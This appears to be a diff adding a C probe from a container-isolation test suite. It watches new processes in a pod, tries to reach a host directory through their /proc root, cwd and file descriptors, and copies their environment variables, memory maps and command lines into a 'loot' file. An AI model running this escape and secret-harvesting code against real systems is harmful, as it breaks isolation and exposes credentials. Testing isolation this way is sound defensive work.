@@ -1,0 +1,71 @@
+/* hold BAIT: takes hold of each process that appears in the pod, by everything of it that leads
+   somewhere, and tries the host's directory BAIT from there. */
+#define _GNU_SOURCE
+#include "hostile.h"
+
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+static void try_path(const char *path, const char *bait) {
+  int dir = open(path, O_RDONLY | O_DIRECTORY);
+  if (dir < 0) return;
+  reach(dir, bait);
+  close(dir);
+}
+
+/* The secret may be in what the process remembers of its caller. */
+static void try_text(const char *path) {
+  static char text[65536];
+  int file = open(path, O_RDONLY);
+  if (file < 0) return;
+  ssize_t size = read(file, text, sizeof text);
+  close(file);
+  int loot = size > 0 ? open(SPOILS "/loot", O_WRONLY | O_CREAT | O_APPEND, 0666) : -1;
+  if (loot < 0) return;
+  if (write(loot, text, size) != size) perror("loot");
+  close(loot);
+}
+
+static void try_descriptors(int pid, const char *bait) {
+  char path[64];
+  for (int fd = 0; fd < 64; fd++) {
+    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
+    try_path(path, bait);
+  }
+}
+
+/* What is written to memory by one who may is not the test's concern: that it can be opened is. A
+   process that is the app's, or comes from it, may be opened; one that is none yet has no parent here. */
+static void try_process(int pid, const char *bait) {
+  char path[64];
+  static const char *const DIRECTORIES[] = {"root", "cwd"};
+  static const char *const TEXTS[] = {"environ", "maps", "mountinfo", "net/unix", "cmdline"};
+  for (unsigned i = 0; i < 2; i++) {
+    snprintf(path, sizeof path, "/proc/%d/%s", pid, DIRECTORIES[i]);
+    try_path(path, bait);
+  }
+  try_descriptors(pid, bait);
+  for (unsigned i = 0; i < 5; i++) {
+    snprintf(path, sizeof path, "/proc/%d/%s", pid, TEXTS[i]);
+    try_text(path);
+  }
+}
+
+int hold_processes(int argc, char **argv) {
+  if (argc != 2) return 2;
+  try_process(1, argv[1]);
+  puts("up");
+  for (;;) {
+    int last = last_pid();
+    char path[64];
+    for (int k = 0; k < 20000; k++)
+      for (int i = 1; i <= 2; i++) {
+        snprintf(path, sizeof path, "/proc/%d", last + i);
+        if (access(path, F_OK) == 0) try_process(last + i, argv[1]);
+      }
+  }
+}
